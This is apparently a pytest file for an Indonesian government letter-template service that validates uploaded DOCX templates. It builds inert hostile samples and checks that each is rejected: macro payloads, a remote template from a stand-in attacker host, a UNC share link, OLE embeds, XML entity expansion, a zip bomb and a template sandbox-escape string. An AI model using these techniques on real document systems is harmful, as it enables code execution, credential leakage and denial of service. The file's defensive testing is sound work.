"""Uploaded .docx templates: hostile files are refused with a reason; good ones render."""

from __future__ import annotations

import io
import subprocess
import time
import zipfile

import docx
import pytest
from django.core.files.base import ContentFile
from wagtail.documents.models import Document

from templates_surat import docx_unggah, layanan
from templates_surat.docx_unggah import DocxDitolak, periksa_docx
from templates_surat.engine import GalatTemplate
from templates_surat.render import LibreOfficeTidakTersedia


def _docx_sah(*paragraf: str, sel: str = "Untuk {{ nama }}") -> bytes:
    dokumen = docx.Document()
    for teks in paragraf or ("Yth. {{ nama }}", "Hal: {{ hal }}"):
        dokumen.add_paragraph(teks)
    tabel = dokumen.add_table(rows=1, cols=1)
    tabel.cell(0, 0).text = sel
    keluaran = io.BytesIO()
    dokumen.save(keluaran)
    return keluaran.getvalue()


def _ubah(data: bytes, tambah: dict[str, bytes], ganti: dict[str, bytes] | None = None) -> bytes:
    """Copy a DOCX zip, replacing or adding parts."""
    ganti = ganti or {}
    keluaran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as asal, zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED) as baru:
        for info in asal.infolist():
            baru.writestr(info.filename, ganti.get(info.filename, asal.read(info.filename)))
        for nama, isi in tambah.items():
            baru.writestr(nama, isi)
    return keluaran.getvalue()


def _rels(target: str, tipe: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{tipe}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@pytest.mark.parametrize(
    ("buat", "nama", "alasan"),
    [
        (lambda: b"ini hanya teks biasa", "surat.docx", "bukan dokumen DOCX"),
        (lambda: b"%PDF-1.7\n1 0 obj", "surat.docx", "bukan dokumen DOCX"),
        (lambda: _docx_sah(), "surat.docm", "makro"),
        (lambda: _ubah(_docx_sah(), {"word/vbaProject.bin": b"\x00" * 64}), "surat.docx", "makro"),
        (
            lambda: _ubah(
                _docx_sah(),
                {},
                {
                    "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(_docx_sah()))
                    .read("[Content_Types].xml")
                    .replace(b"document.main+xml", b"document.macroEnabled.main+xml")
                },
            ),
            "surat.docx",
            "makro",
        ),
        (
            lambda: _ubah(
                _docx_sah(),
                {"word/_rels/settings.xml.rels": _rels("http://penyerang.example/t.dotm", REL + "attachedTemplate")},
            ),
            "surat.docx",
            "http://penyerang.example/t.dotm",
        ),
        (
            lambda: _ubah(
                _docx_sah(), {"word/_rels/footer1.xml.rels": _rels("\\\\server\\share\\logo.png", REL + "image")}
            ),
            "surat.docx",
            "berkas eksternal",
        ),
        (lambda: _ubah(_docx_sah(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "surat.docx", "OLE"),
        (
            lambda: _ubah(
                _docx_sah(),
                {},
                {
                    "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">'
                    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><w:document>&lol2;</w:document>'
                },
            ),
            "surat.docx",
            "DTD/ENTITY",
        ),
    ],
)
def test_berkas_berbahaya_ditolak_dengan_alasan(buat, nama: str, alasan: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(DocxDitolak) as err:
        periksa_docx(buat(), nama)
    assert alasan in err.value.alasan


def test_zip_bomb_dihentikan_lebih_awal(settings) -> None:  # type: ignore[no-untyped-def]
    settings.LONTAR_DOCX_MAKS_UKURAN_TERURAI = 5 * 1024 * 1024
    keluaran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_docx_sah())) as asal, zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED) as baru:
        for info in asal.infolist():
            baru.writestr(info.filename, asal.read(info.filename))
        with baru.open("word/media/bom.xml", "w", force_zip64=True) as bom:
            nol = b"\x00" * (1024 * 1024)
            for _ in range(200):  # 200 MB of zeros, a few hundred KB compressed
                bom.write(nol)
    data = keluaran.getvalue()
    assert len(data) < 2 * 1024 * 1024

    mulai = time.monotonic()
    with pytest.raises(DocxDitolak, match="zip bomb"):
        periksa_docx(data)
    assert time.monotonic() - mulai < 2


def test_tautan_web_biasa_diterima() -> None:
    data = _ubah(_docx_sah(), {"word/_rels/footnotes.xml.rels": _rels("https://sukamajukota.go.id", REL + "hyperlink")})
    periksa_docx(data, "surat.docx")


def test_placeholder_dan_render_aman() -> None:
    data = _docx_sah()
    assert docx_unggah.placeholder_docx(data) == {"nama", "hal"}
    hasil = docx_unggah.render_docx_unggahan(data, {"nama": "<b>Budi & Ani</b>", "hal": "Uji"})
    dokumen = docx.Document(io.BytesIO(hasil))
    teks = [p.text for p in dokumen.paragraphs]
    assert "Yth. <b>Budi & Ani</b>" in teks
    assert dokumen.tables[0].cell(0, 0).text == "Untuk <b>Budi & Ani</b>"

    with pytest.raises(GalatTemplate, match="hal"):
        docx_unggah.render_docx_unggahan(data, {"nama": "Budi"})
    with pytest.raises(GalatTemplate, match="tidak diizinkan"):
        docx_unggah.render_docx_unggahan(_docx_sah("{{ nama.__class__.__mro__ }}"), {"nama": "x"})


def test_pdf_dari_docx_unggahan_dengan_libreoffice(monkeypatch: pytest.MonkeyPatch) -> None:
    pdf = docx_unggah.render_pdf_unggahan(_docx_sah(), {"nama": "Siti Rahmawati", "hal": "Uji"})
    assert pdf.startswith(b"%PDF")
    teks = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    assert "Siti Rahmawati" in teks

    monkeypatch.setenv("LONTAR_SOFFICE", "/tidak/ada/soffice")
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(LibreOfficeTidakTersedia, match="LibreOffice"):
        docx_unggah.render_pdf_unggahan(_docx_sah(), {"nama": "A", "hal": "B"})


@pytest.mark.django_db
def test_template_docx_unggahan_diperiksa_saat_disimpan(templates_demo: None) -> None:
    from django.core.exceptions import ValidationError

    from templates_surat.models import TemplateSuratPage

    template = TemplateSuratPage.objects.get(slug="surat-dinas")
    jahat = Document.objects.create(
        title="jahat",
        file=ContentFile(_ubah(_docx_sah(), {"word/vbaProject.bin": b"x"}), name="jahat.docx"),
    )
    template.berkas_docx = jahat
    with pytest.raises(ValidationError) as err:
        template.full_clean()
    assert "makro" in " ".join(err.value.message_dict["berkas_docx"])

    asing = Document.objects.create(
        title="asing", file=ContentFile(_docx_sah("{{ tidak_dikenal }}", sel="-"), name="a.docx")
    )
    template.berkas_docx = asing
    with pytest.raises(ValidationError, match="tidak_dikenal"):
        template.full_clean()

    baik = Document.objects.create(
        title="baik",
        file=ContentFile(
            _docx_sah("Yth. {{ kepada[0] }}", "Hal: {{ hal }}", "{{ isi_pokok }}", sel="{{ penandatangan.nama }}"),
            name="b.docx",
        ),
    )
    template.berkas_docx = baik
    template.full_clean()
    template.save_revision().publish()
    template = TemplateSuratPage.objects.get(slug="surat-dinas")
    hasil = layanan.render(template, template.isian_contoh, "docx").isi
    teks = " ".join(p.text for p in docx.Document(io.BytesIO(hasil)).paragraphs)
    assert "Kepala Dinas Kesehatan Kota Sukamaju" in teks
    assert "Permohonan Data Layanan Publik Tahun 2026" in teks
    assert docx.Document(io.BytesIO(hasil)).tables[0].cell(0, 0).text == "Dr. Ahmad Fauzi, S.Kom., M.T."
